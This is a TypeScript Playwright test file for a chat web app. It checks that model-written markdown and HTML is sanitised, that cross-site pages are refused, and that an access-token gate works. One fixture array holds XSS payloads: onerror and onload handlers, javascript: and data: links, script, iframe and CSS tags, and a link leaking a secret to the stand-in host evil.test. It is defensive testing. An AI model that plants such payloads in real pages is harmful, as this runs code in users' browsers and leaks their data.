import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { openChat } from './chat-page.ts';
import { expect, test } from './fixtures.ts';

const hostile = [
  'Look: ![pixel][r] and <img src="https://evil.test/html.png" onerror="window.pwned = 1">',
  '[press me](javascript:window.pwned=2) [or me](data:text/html,<script>window.pwned=3</script>)',
  '<script>window.pwned = 4</script><iframe src="https://evil.test/frame"></iframe>',
  '<svg onload="window.pwned=5"><foreignObject><b>svg</b></foreignObject></svg>',
  '<style>body{background:url(https://evil.test/css)}</style>',
  '[r]: https://evil.test/?secret=1',
].join('\n\n');

test('What a model writes is never run, and calls nobody', async ({ page, server, provider }) => {
  const strangers: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url)) strangers.push(request.url());
  });
  page.on('dialog', (dialog) => strangers.push(`dialog ${dialog.message()}`));
  provider.setScript([hostile]);
  const chat = await openChat(page, server.url);
  await chat.send('be evil');
  await chat.ended('completed');
  await expect(chat.answer).toContainText('Look:');
  await expect(chat.answer.locator('script, iframe, style, img, object, embed')).toHaveCount(0);
  for (const link of await chat.answer.getByRole('link').all())
    expect(await link.getAttribute('href')).toMatch(/^(https?:|mailto:|#|\/)/);
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  expect(strangers).toEqual([]);
});

test('A page of another site gets neither a socket nor an answer', async ({ page, demo }) => {
  const other = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html').end('<!doctype html><title>Other</title>');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  try {
    await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    const outcome = await page.evaluate(async (url) => {
      const socket = await new Promise((resolve) => {
        const opened = new WebSocket(`${url.replace('http', 'ws')}/ws`);
        opened.onopen = () => resolve('opened');
        opened.onerror = () => resolve('refused');
      });
      const post = await fetch(`${url}/api/sessions`, { method: 'POST', mode: 'no-cors', body: '{}' }).then(
        (response) => response.type,
        () => 'refused',
      );
      const get = await fetch(`${url}/api/sessions`).then(
        () => 'answered',
        () => 'refused',
      );
      return { socket, post, get };
    }, demo.url);
    expect(outcome).toMatchObject({ socket: 'refused', get: 'refused' });
    const sessions = await (await fetch(`${demo.url}/api/sessions`)).json();
    expect(sessions).toEqual({ sessions: [], nextCursor: null });
  } finally {
    other.close();
  }
});

test('With a token the page asks for it once and then works', async ({ page, serve }) => {
  const token = 'a-token-of-24-characters';
  const server = await serve({ env: { AUTH_TOKEN: token } });
  await page.goto(server.url);
  const field = page.getByLabel('Access token');
  await field.fill('not-the-token-at-all');
  await field.press('Enter');
  await expect(page.getByText('That is not the token.')).toBeVisible();
  await field.fill(token);
  await field.press('Enter');
  const composer = page.getByRole('textbox', { name: 'Message' });
  await expect(composer).toBeVisible();
  await page.reload();
  await expect(composer).toBeVisible();
  expect(server.logs()).not.toContain(token);
});
